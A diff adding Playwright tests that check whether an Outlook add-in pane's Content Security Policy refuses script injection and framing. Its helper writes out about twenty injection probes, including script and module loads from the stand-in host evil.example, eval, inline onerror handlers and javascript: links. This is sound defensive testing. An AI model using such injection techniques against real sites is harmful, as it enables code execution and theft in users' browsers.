@@ -1,0 +1,200 @@
+import type { OutlookWindow } from '../pages/outlook-window.ts';
+import { expect, test } from '../fixtures.ts';
+import { RecordForm } from '../pages/record-form.ts';
+
+const elsewhere = 'https://evil.example';
+
+/** What is tried in the pane, each in words; gives those that went through. */
+async function tryEverything(outlook: OutlookWindow): Promise<readonly string[]> {
+  return outlook.pane.frame.locator('body').evaluate(async (body, evil) => {
+    const through: string[] = [];
+    const page = window as unknown as { ran?: string; trustedTypes: TrustedTypes };
+    interface TrustedTypes {
+      createPolicy(name: string, rules: object): unknown;
+    }
+    const attempt = async (what: string, act: () => unknown): Promise<void> => {
+      delete page.ran;
+      try {
+        // Later, for what the debugger runs itself may evaluate.
+        const isDone = await new Promise((done, fail) =>
+          setTimeout(() => {
+            try {
+              done(act());
+            } catch (error) {
+              fail(error as Error);
+            }
+          }),
+        );
+        await new Promise((done) => setTimeout(done, 100));
+        if (isDone === true || page.ran !== undefined) through.push(what);
+      } catch {
+        // Refused.
+      }
+    };
+    const run = `window.ran = 'it ran'`;
+    const script = (fill: (element: HTMLScriptElement) => void) => () => {
+      const element = document.createElement('script');
+      fill(element);
+      body.append(element);
+    };
+    await attempt('a script with text', script((element) => (element.text = run)));
+    await attempt('a script with a text node', script((element) => element.append(run)));
+    await attempt('a script from elsewhere', script((element) => (element.src = `${evil}/a.js`)));
+    await attempt('a script of data', script((element) => (element.src = `data:,${run}`)));
+    await attempt('a module from elsewhere', () => import(`${evil}/a.js`).then(() => true));
+    await attempt('eval', () => globalThis.eval(`${run}; true`) === true);
+    await attempt('a function of text', () => new Function(`${run}; return true`)());
+    await attempt('a timer of text', () => setTimeout(run));
+    await attempt('innerHTML', () => {
+      body.appendChild(document.createElement('p')).innerHTML = '<b>bold</b>';
+      return true;
+    });
+    await attempt('insertAdjacentHTML', () => {
+      body.insertAdjacentHTML('beforeend', '<b>bold</b>');
+      return true;
+    });
+    await attempt('an inline handler', () => {
+      const image = document.createElement('img');
+      image.setAttribute('onerror', run);
+      image.src = 'none:';
+    });
+    await attempt('a javascript: link', () => {
+      const link = document.createElement('a');
+      link.href = `javascript:void (${run})`;
+      body.append(link);
+      link.click();
+    });
+    await attempt('a document of text', () => {
+      const frame = document.createElement('iframe');
+      frame.srcdoc = `<script>parent.ran = 'it ran'</script>`;
+      body.append(frame);
+    });
+    for (const name of ['evil', 'default', 'angular#unsafe-bypass', 'angular#unsafe-jit']) {
+      await attempt(`the policy ${name}`, () => {
+        page.trustedTypes.createPolicy(name, {});
+        return true;
+      });
+    }
+    await attempt('a call without https', () =>
+      fetch(evil.replace('https', 'http')).then(() => true),
+    );
+    await attempt('a worker', () => new Worker('main.js') instanceof Worker);
+    // The last, for where it is not refused it replaces the page.
+    await attempt('document.write', () => {
+      document.write('<b>bold</b>');
+      return true;
+    });
+    return through;
+  }, elsewhere);
+}
+
+test.describe('what the policy refuses', () => {
+  test.use({ mayBeBlocked: /./ });
+
+  const withoutMeta = (page: string): string =>
+    page.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
+  const withoutHeader = { 'content-security-policy': '' };
+
+  /** Opens the pane as `serve` changes it, tries everything, and gives what went through. */
+  async function whatGoesThrough(
+    outlook: OutlookWindow,
+    paneAddress: string,
+    serve: (page: string) => { body: string; headers?: Record<string, string> },
+  ): Promise<{ through: readonly string[]; asked: readonly string[] }> {
+    const asked: string[] = [];
+    await outlook.page.route(/evil\.example/, (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({
+        headers: { 'Access-Control-Allow-Origin': '*' },
+        contentType: 'text/javascript',
+        body: `window.ran = 'it ran'`,
+      });
+    });
+    await outlook.page.route(`${paneAddress}/`, async (route) => {
+      const response = await route.fetch();
+      const { body, headers } = serve(await response.text());
+      await route.fulfill({ body, headers: { ...response.headers(), ...headers } });
+    });
+    await outlook.openMail('Signed contract');
+    await outlook.openPane();
+    await expect(outlook.pane.heading('Sign in to your CRM')).toBeVisible();
+    return { through: await tryEverything(outlook), asked };
+  }
+
+  test('code and markup from text, and scripts from elsewhere, by the header alone', async ({
+    outlook,
+    sandbox,
+  }) => {
+    const { through, asked } = await whatGoesThrough(outlook, sandbox.pane, (page) => ({
+      body: withoutMeta(page),
+    }));
+    expect(through).toEqual([]);
+    expect(asked).toEqual([]);
+  });
+
+  test('code and markup from text, and scripts from elsewhere, by the meta tag alone', async ({
+    outlook,
+    sandbox,
+  }) => {
+    const { through, asked } = await whatGoesThrough(outlook, sandbox.pane, (page) => ({
+      body: page,
+      headers: withoutHeader,
+    }));
+    expect(through).toEqual([]);
+    expect(asked).toEqual([]);
+  });
+
+  test('nothing of it where there is no policy, so that the two tests before prove something', async ({
+    outlook,
+    sandbox,
+  }) => {
+    const { through, asked } = await whatGoesThrough(outlook, sandbox.pane, (page) => ({
+      body: withoutMeta(page).replace(/<script src="trust-[^>]*><\/script>/, ''),
+      headers: withoutHeader,
+    }));
+    expect(through).toHaveLength(20);
+    expect(asked).toHaveLength(3);
+  });
+
+  test('that another page than Outlook shows the pane in a frame', async ({ outlook, sandbox }) => {
+    const { page } = outlook;
+    await page.route(`${elsewhere}/`, (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<iframe title="Link to CRM" src="${sandbox.pane}/"></iframe>`,
+      }),
+    );
+    await page.goto(`${elsewhere}/`);
+    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
+  });
+});
+
+test('nothing of the pane or of office.js is against the policy while a mail is linked', async ({
+  outlook,
+  crm,
+}) => {
+  const violations: string[] = [];
+  await outlook.page.exposeFunction('violated', (what: string) => violations.push(what));
+  await outlook.page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const { violated } = window as unknown as { violated(what: string): void };
+      violated(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
+    });
+  });
+  await outlook.start();
+  await outlook.begin('Signed contract', 'admin');
+  const { pane } = outlook;
+  await pane.expectRest();
+  await pane.search('acme', 'Accounts');
+  await pane.chooseFound(/./);
+  const form = new RecordForm(pane.frame);
+  await form.open('Contact');
+  await form.button('Cancel').click();
+  await pane.note.fill('Agreed by phone');
+  await pane.choose('Ada Byron');
+  await pane.link();
+  await expect(pane.heading('Linked to 2 records')).toBeVisible({ timeout: 30_000 });
+  const [link] = await crm.links();
+  expect(link?.files).toHaveLength(3);
+  expect(violations).toEqual([]);
+});
